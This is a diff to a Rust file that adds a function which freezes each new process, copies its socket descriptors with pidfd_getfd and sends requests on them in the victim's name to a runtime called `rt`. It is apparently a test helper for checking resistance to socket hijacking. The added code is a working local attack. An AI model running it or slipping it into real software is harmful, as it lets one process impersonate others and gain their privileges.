@@ -136,3 +136,44 @@ fn contains(bytes: &[u8], word: &[u8]) -> bool {
     let found = unsafe { libc::memmem(text, bytes.len(), sought, word.len()) };
     !found.is_null()
 }
+
+/// Takes the sockets of each new process, and asks in its name for everything that a child of `rt`
+/// can ask for.
+pub fn steal() {
+    println!("ready");
+    let mut seen = BTreeSet::new();
+    loop {
+        for pid in pids().into_iter().filter(|pid| *pid != std::process::id()) {
+            if seen.insert(pid) {
+                // SAFETY: integers only.
+                unsafe { libc::kill(pid as i32, libc::SIGSTOP) };
+                for fd in sockets(pid) {
+                    println!("stolen {fd} of {pid}");
+                    for kind in 1..=14_u8 {
+                        let mut frame = [0_u8; 16];
+                        frame[0] = kind;
+                        // SAFETY: the frame is as long as said. Without a reader there is no harm.
+                        unsafe {
+                            libc::send(fd, frame.as_ptr().cast(), frame.len(), libc::MSG_NOSIGNAL)
+                        };
+                    }
+                }
+                // SAFETY: integers only.
+                unsafe { libc::kill(pid as i32, libc::SIGCONT) };
+            }
+        }
+    }
+}
+
+fn sockets(pid: u32) -> Vec<i32> {
+    let fds = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
+    let is_socket = |fd: &fs::DirEntry| {
+        fs::read_link(fd.path()).is_ok_and(|to| to.to_string_lossy().starts_with("socket:"))
+    };
+    // SAFETY: integers only.
+    let process = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
+    let numbers = fds.filter(is_socket).filter_map(|fd| fd.file_name().to_str()?.parse().ok());
+    // SAFETY: integers only.
+    let steal = |fd: i32| unsafe { libc::syscall(libc::SYS_pidfd_getfd, process, fd, 0) } as i32;
+    numbers.map(steal).filter(|fd| *fd >= 0).collect()
+}
